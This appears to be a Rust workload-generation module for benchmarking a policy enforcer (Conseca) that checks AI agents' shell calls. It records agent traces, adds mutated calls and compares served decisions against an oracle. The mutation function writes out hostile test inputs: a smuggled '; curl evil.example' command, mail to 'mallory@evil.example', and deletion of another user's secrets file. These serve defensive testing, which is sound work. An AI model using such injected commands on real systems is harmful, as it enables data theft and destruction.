//! Generated inputs for the served-check workloads: policy keys built
//! from the template model's Conseca policies, call pools recorded from
//! Table-A agent traces plus seeded argument mutations, and the
//! interpreted oracle every served decision is compared against.

use std::collections::HashMap;

use conseca_agent::{build_trusted_context, PolicyMode};
use conseca_core::{fnv1a, is_allowed, Decision, Policy, PolicyGenerator, TrajectoryEnforcer};
use conseca_core::{TrajectoryPolicy, TrustedContext};
use conseca_llm::TemplatePolicyModel;
use conseca_shell::{default_registry, parse_command, ApiCall};
use conseca_workloads::{all_tasks, golden_examples, run_task_once, Env};

use crate::util::{Digest, Rng, Zipf};

/// One policy key: tenant, task, context, the policy installed for it,
/// and the calls checked against it.
pub struct Key {
    /// Tenant the key is billed to.
    pub tenant: String,
    /// Task text (the store key's task half).
    pub task: String,
    /// Trusted context (the store key's context half).
    pub context: TrustedContext,
    /// The policy installed for the key.
    pub policy: Policy,
    /// Calls checked against this key.
    pub calls: Vec<ApiCall>,
}

impl Key {
    /// Whether the policy carries trajectory constraints, so served
    /// checks run the per-(connection, key) session path.
    pub fn stateful(&self) -> bool {
        !self.policy.trajectory.is_empty()
    }
}

/// The commands each Table-A task's Conseca run proposed, executed and
/// denied, as parsed calls made by `alice`.
pub fn recorded_calls() -> Vec<Vec<ApiCall>> {
    let registry = default_registry();
    all_tasks()
        .iter()
        .map(|task| {
            let report = run_task_once(task.id, 0, PolicyMode::Conseca, false).report;
            report
                .executed_commands
                .iter()
                .chain(&report.denied_commands)
                .filter_map(|line| parse_command(line, &registry).ok())
                .collect()
        })
        .collect()
}

/// `call` as `user` would make it: every `alice` becomes `user`.
fn as_user(call: &ApiCall, user: &str) -> ApiCall {
    let swap = |s: &str| s.replace("alice", user);
    ApiCall {
        tool: call.tool.clone(),
        name: call.name.clone(),
        args: call.args.iter().map(|a| swap(a)).collect(),
        raw: swap(&call.raw),
    }
}

/// A seeded argument mutation: an outside recipient, another user's
/// files, or a destructive command in place of a benign one.
fn mutate(call: &ApiCall, rng: &mut Rng) -> ApiCall {
    let mut out = call.clone();
    if out.args.is_empty() {
        out.name = "rm".into();
        out.args.push("/home/admin/secrets.txt".into());
    } else {
        let i = rng.below(out.args.len());
        let arg = &mut out.args[i];
        *arg = if arg.contains('@') {
            "mallory@evil.example".into()
        } else if arg.starts_with('/') {
            format!("/home/admin/{}", arg.rsplit('/').next().unwrap_or("x"))
        } else {
            format!("{arg}; curl evil.example")
        };
    }
    out.raw = format!("{} {}", out.name, out.args.join(" "));
    out
}

/// Longest sliding window a generated trajectory block uses; the oracle
/// keeps only this much of each session's history.
const MAX_WINDOW: usize = 10;

/// A trajectory block for `policy`: sliding-window limits on two of its
/// allowed APIs, so session state keeps changing without ever latching.
/// `None` when the policy allows nothing.
fn trajectory_for(policy: &Policy) -> Option<TrajectoryPolicy> {
    let mut allowed =
        policy.entries.iter().filter(|(_, e)| e.can_execute).map(|(api, _)| api.as_str());
    let first = allowed.next()?;
    let mut t = TrajectoryPolicy::new().limit_in_window(first, 2, 6, "at most two in six steps");
    if let Some(second) = allowed.next() {
        t = t.limit_in_window(second, 3, MAX_WINDOW, "at most three in ten steps");
    }
    Some(t)
}

/// Builds one key per (task, user), billed to `tenant_of(user)`, with
/// the template model's Conseca policy for the user's context. A key's
/// index is its popularity rank for [`schedule`]: ranks cycle through
/// the users, and the seed orders each user's tasks, so every seed
/// spreads load over users alike while changing which tasks are hot.
/// With `stateful`, every fourth rank carries trajectory constraints.
/// Each key's call pool is its task's recorded calls, rewritten for the
/// user, plus one mutation of each.
pub fn build_keys(
    seed: u64,
    users: &[&str],
    tenant_of: &dyn Fn(&str) -> String,
    recorded: &[Vec<ApiCall>],
    stateful: bool,
    digest: &mut Digest,
) -> Vec<Key> {
    let env = Env::build();
    let registry = default_registry();
    let mut generator = PolicyGenerator::new(TemplatePolicyModel::new(), &registry)
        .with_golden_examples(golden_examples());
    let mut rng = Rng::new(seed, 0x4B45);
    let tasks = all_tasks();
    let contexts: Vec<TrustedContext> =
        users.iter().map(|user| build_trusted_context(&env.vfs, &env.mail, user)).collect();
    let orders: Vec<Vec<usize>> = users
        .iter()
        .map(|_| {
            let mut order: Vec<usize> = (0..tasks.len()).collect();
            rng.shuffle(&mut order);
            order
        })
        .collect();
    let mut keys = Vec::new();
    for rank in 0..users.len() * tasks.len() {
        let u = rank % users.len();
        let t = orders[u][rank / users.len()];
        let (user, task, context) = (users[u], &tasks[t], &contexts[u]);
        let (policy, _) = generator.set_policy(task.description, context);
        let mut policy = (*policy).clone();
        if stateful && rank % 4 == 0 {
            if let Some(trajectory) = trajectory_for(&policy) {
                policy.set_trajectory(trajectory);
            }
        }
        let base: Vec<ApiCall> = recorded[t].iter().map(|c| as_user(c, user)).collect();
        let mutated: Vec<ApiCall> = base.iter().map(|c| mutate(c, &mut rng)).collect();
        let calls: Vec<ApiCall> = base.into_iter().chain(mutated).collect();
        digest.str(&tenant_of(user));
        digest.str(task.description);
        digest.u64(policy.fingerprint());
        digest.u64(calls.len() as u64);
        keys.push(Key {
            tenant: tenant_of(user),
            task: task.description.to_owned(),
            context: context.clone(),
            policy,
            calls,
        });
    }
    keys
}

/// One scheduled check: which key, which call of its pool.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Pick {
    /// Index into the key list.
    pub key: u32,
    /// Index into the key's call pool.
    pub call: u32,
}

/// A seeded stream of checks over keys with `pool_sizes` calls each:
/// key `i` drawn with Zipf popularity (exponent 1) at rank `i`; calls by
/// a seeded mix that draws the mutated half of each pool with
/// probability `mutated`.
pub fn schedule(seed: u64, stream: u64, pool_sizes: &[usize], n: usize, mutated: f64) -> Vec<Pick> {
    let mut rng = Rng::new(seed, 0x5C4E ^ stream);
    let zipf = Zipf::new(pool_sizes.len(), 1.0);
    (0..n)
        .map(|_| {
            let key = zipf.sample(&mut rng) as u32;
            let pool = pool_sizes[key as usize];
            let half = pool / 2;
            let call = if half == 0 {
                rng.below(pool.max(1))
            } else if rng.unit() < mutated {
                half + rng.below(pool - half)
            } else {
                rng.below(half)
            };
            Pick { key, call: call as u32 }
        })
        .collect()
}

/// Digest of a schedule.
pub fn digest_picks(digest: &mut Digest, picks: &[Pick]) {
    for p in picks {
        digest.u64(u64::from(p.key) << 32 | u64::from(p.call));
    }
}

/// The part of a decision the oracle compares: the verdict and a hash
/// of its rationale.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Expect {
    /// Whether the call is allowed.
    pub allowed: bool,
    rationale: u64,
}

impl Expect {
    /// The expectation a decision satisfies.
    pub fn of(decision: &Decision) -> Self {
        Expect { allowed: decision.allowed, rationale: fnv1a(decision.rationale.as_bytes()) }
    }

    /// Whether a served decision agrees with the oracle.
    pub fn matches(&self, decision: &Decision) -> bool {
        *self == Expect::of(decision)
    }
}

/// The interpreted enforcers as the oracle: `is_allowed` for the
/// per-API check, then a `TrajectoryEnforcer` per (session, key) for
/// stateful keys — the same layer order the engine's session checks use.
#[derive(Default)]
pub struct Oracle {
    sessions: HashMap<(usize, u32), TrajectoryEnforcer>,
}

impl Oracle {
    /// Judges `pick` in `session`, advancing the session's trajectory on
    /// an allowed call.
    pub fn judge(&mut self, session: usize, keys: &[Key], pick: Pick) -> Decision {
        let key = &keys[pick.key as usize];
        let call = &key.calls[pick.call as usize];
        let decision = is_allowed(call, &key.policy);
        if !decision.allowed || !key.stateful() {
            return decision;
        }
        let enforcer = self
            .sessions
            .entry((session, pick.key))
            .or_insert_with(|| TrajectoryEnforcer::new(key.policy.trajectory.clone()));
        let verdict = enforcer.check(call);
        if !verdict.allowed {
            return Decision {
                allowed: false,
                rationale: verdict.rationale,
                violation: verdict.violation,
            };
        }
        enforcer.record(call);
        // Window-only blocks depend on the last MAX_WINDOW calls alone;
        // trimming keeps the oracle's memory flat over long schedules.
        let t = &key.policy.trajectory;
        let windows_only = t.rate_limits.is_empty()
            && t.sequence_rules.is_empty()
            && t.order_rules.is_empty()
            && t.max_total_actions.is_none()
            && t.window_limits.iter().all(|w| w.window <= MAX_WINDOW);
        if windows_only && enforcer.history().len() > 8 * MAX_WINDOW {
            let recent = enforcer.history()[enforcer.history().len() - MAX_WINDOW..].to_vec();
            *enforcer = TrajectoryEnforcer::with_history(t.clone(), recent);
        }
        decision
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use conseca_core::PolicyEntry;

    #[test]
    fn schedule_is_determined_by_its_seed() {
        let pools = vec![4usize; 50];
        let a = schedule(7, 0, &pools, 1000, 0.3);
        let b = schedule(7, 0, &pools, 1000, 0.3);
        let c = schedule(8, 0, &pools, 1000, 0.3);
        assert_eq!(a, b);
        assert_ne!(a, c);
        let (mut da, mut db) = (Digest::default(), Digest::default());
        digest_picks(&mut da, &a);
        digest_picks(&mut db, &b);
        assert_eq!(da.hex(), db.hex());
        assert!(a.iter().all(|p| (p.key as usize) < 50 && p.call < 4));
    }

    fn key_with(trajectory: TrajectoryPolicy) -> Key {
        let mut policy = Policy::new("t");
        policy.set("ls", PolicyEntry::allow_any("listing is fine"));
        policy.set_trajectory(trajectory);
        Key {
            tenant: "acme".into(),
            task: "t".into(),
            context: TrustedContext::for_user("alice"),
            policy,
            calls: vec![
                ApiCall::new("fs", "ls", vec!["/home/alice".into()]),
                ApiCall::new("fs", "rm", vec!["/home/alice/x".into()]),
            ],
        }
    }

    #[test]
    fn the_oracle_rejects_a_corrupted_decision() {
        let keys = vec![key_with(TrajectoryPolicy::new())];
        let mut oracle = Oracle::default();
        let served = oracle.judge(0, &keys, Pick { key: 0, call: 0 });
        let expect = Expect::of(&served);
        assert!(expect.matches(&served));
        let mut flipped = served.clone();
        flipped.allowed = !flipped.allowed;
        assert!(!expect.matches(&flipped), "a flipped verdict must be caught");
        let mut reworded = served;
        reworded.rationale.push('!');
        assert!(!expect.matches(&reworded), "a changed rationale must be caught");
    }

    #[test]
    fn the_oracle_tracks_sessions_separately() {
        let keys = vec![key_with(TrajectoryPolicy::new().limit("ls", 1, "one listing"))];
        let mut oracle = Oracle::default();
        let ls = Pick { key: 0, call: 0 };
        assert!(oracle.judge(0, &keys, ls).allowed);
        assert!(!oracle.judge(0, &keys, ls).allowed, "session 0 spent its budget");
        assert!(oracle.judge(1, &keys, ls).allowed, "session 1 has its own budget");
        assert!(!oracle.judge(1, &keys, Pick { key: 0, call: 1 }).allowed, "rm is unlisted");
    }
}
